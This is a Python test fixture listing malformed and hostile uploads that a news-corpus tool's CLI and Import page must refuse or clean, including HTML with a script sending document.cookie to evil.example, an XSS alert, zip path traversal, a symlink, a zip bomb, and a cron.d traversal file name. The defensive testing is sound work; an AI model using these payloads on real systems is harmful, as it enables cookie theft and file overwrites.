"""The bad-input matrix (issue 8): one table, run through the CLI
(`tests/test_bad_input.py`), the Import page's functions (same file) and the
Import page in Chromium (`tests/e2e/test_bad_input_e2e.py`).

Each case is a file a user might really hand us. `refused`: nothing of it may
be stored. Otherwise it is read, with the note given. Either way the message
names the file, and the articles already stored stay exactly as they were.
"""
from __future__ import annotations

from dataclasses import dataclass, field

from test_upload import make_zip

GOOD = ("Russia has massed 100,000 troops near the border with Ukraine, the Pentagon said on Sunday. "
        "Ukraine's president met NATO officials in Kyiv.")
FIFTY_MB = 50_000_000


@dataclass(frozen=True)
class BadInput:
    case: str
    name: str                   # as uploaded; on disk (CLI) `disk_name`
    content: bytes
    cli_note: str               # in the CLI's warning line for this file
    upload_note: str            # in the Import page's refusal or the draft's notes
    refused: bool               # True: nothing of it is stored or imported
    disk_name: str = ""         # the file's name in the corpus folder (default: `name`)
    in_cli: bool = True         # zip members' tricks are the Import page's concern only
    text_has: str = ""          # decoded correctly: the stored text holds this
    text_lacks: tuple[str, ...] = field(default=())   # never stored (script bodies)


HTML = (b"<html><head><title>Build-up</title><style>body{color:red}</style>"
        b"<script>document.location='https://evil.example/?'+document.cookie</script></head><body>"
        b"<iframe src='https://evil.example/frame'></iframe><article><p>" + GOOD.encode() +
        b"</p></article><script>alert('xss')</script></body></html>")

CASES = [
    BadInput("empty", "empty.txt", b"", "empty file", "empty file", True),
    BadInput("binary", "photo.txt", bytes(range(256)) * 64, "binary file", "binary file", True),
    BadInput("pdf named .txt", "report.txt", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n",
             "this is a PDF", "this is a PDF", True),
    BadInput("cp1252", "windows.txt", f"{GOOD} The minister\u2019s \u201cred line\u201d \u2014 \u20ac5bn.".encode("cp1252"),
             "decoded as Windows-1252", "decoded as Windows-1252", False, text_has="\u201cred line\u201d \u2014 \u20ac5bn"),
    BadInput("latin-1", "latin.txt", f"{GOOD} Au\u00dfenminister Baerbock visited caf\u00e9s in K\u00f6ln.".encode("latin-1"),
             "decoded as Windows-1252", "decoded as Windows-1252", False, text_has="Au\u00dfenminister"),
    # Over the upload limit too: the browser refuses it before sending (see the e2e test), the server again.
    BadInput("50 MB text", "dump.txt", b"troops " * (FIFTY_MB // 7 + 1), "the limit for one article is 5,000,000",
             "the limit for one article is 5,000,000", True),
    BadInput("html with script, style, iframe", "page.html", HTML, "removed 1 iframe, 2 script, 1 style",
             "removed 1 iframe, 2 script, 1 style", False, text_has="100,000 troops",
             text_lacks=("document.cookie", "alert(", "color:red", "evil.example")),
    BadInput("not English", "german.txt",
             "Russland hat mehr als hunderttausend Soldaten an der Grenze zur Ukraine zusammengezogen, sagte "
             "das Pentagon am Sonntag. Der Präsident traf Vertreter der NATO in Kiew.".encode(),
             "language: German (de)", "language: German (de)", False),
    BadInput("no date", "undated.txt", GOOD.replace("Sunday", "Monday").encode(), "no publication date",
             "no publication date", False),
    BadInput("invalid metadata date", "baddate.md",
             f"---\ntitle: X\npublished: 2022-02-30\n---\n{GOOD} (b) Satellite images showed field hospitals set up "
             "near the border.".encode(),
             "'2022-02-30' is not a real calendar date", "'2022-02-30' is not a real calendar date", False),
    # Each readable case's text differs from the others' by more than core.read.dedupe's near-duplicate threshold.
    BadInput("duplicate", "copy.txt", b"", "duplicate of", "already in the corpus", True),  # content: a stored article's
    BadInput("zip with ../ path", "traversal.zip", make_zip({"../../evil.txt": GOOD.encode()}),
             "a .zip archive", "its path leaves the archive", True),
    BadInput("zip with a symlink", "link.zip", make_zip({}, symlink="passwd.txt"), "a .zip archive", "symbolic link", True),
    BadInput("zip bomb", "bomb.zip", make_zip({"zeros.txt": b"0" * 20_000_000}), "a .zip archive", "zip bomb", True),
    BadInput("name with separators", "../../etc/cron.d/evil.txt", f"{GOOD} (c) Talks on the crisis will resume in Geneva next week, diplomats said.".encode(), "no publication date",
             "no publication date", False,
             disk_name="..\\..\\evil.txt", text_has="(c)"),
    BadInput("name with control characters", "red\x1b[31m\nfake line\u202e.txt", f"{GOOD} (d) A convoy of armoured vehicles was filmed moving south from Minsk overnight.".encode(),
             "red\\x1b[31m\\nfake line\\u202e.txt", "no publication date", False,
             text_has="(d)"),
]
